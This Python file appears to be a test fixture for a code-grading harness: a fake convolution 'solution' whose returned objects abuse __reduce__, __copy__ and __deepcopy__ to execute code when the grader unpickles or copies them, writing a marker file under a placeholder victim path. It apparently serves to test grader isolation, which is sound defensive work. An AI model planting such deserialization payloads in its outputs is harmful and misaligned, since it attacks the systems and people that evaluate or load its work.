# what: Returns objects that run code wherever somebody unpickles, copies or prints them.
# gains: others
# where: solution
# fires: stdout text `FIRED reduce_payload`
# stock: need_not (nothing is unpickled in a stock run)

class Payload:
    def __reduce__(self):
        return (exec, ("open('@VICTIM@/reduce_payload', 'w').write('unpickled')",))

    def __deepcopy__(self, memo):
        open("@VICTIM@/reduce_payload", "w").write("copied")

    __copy__ = __reduce_ex__ = lambda self, *a: Payload.__reduce__(self)


class Array(np.ndarray):
    __reduce__ = __reduce_ex__ = Payload.__reduce_ex__


print("FIRED reduce_payload", flush=True)
calls = []


def conv_single_step(a_slice_prev, W, b):
    calls.append(1)
    things = [Payload(), np.array(Payload(), dtype=object), np.zeros(()).view(Array), (0.0, Payload()), {"a": Payload()}]
    return things[len(calls) % len(things)]
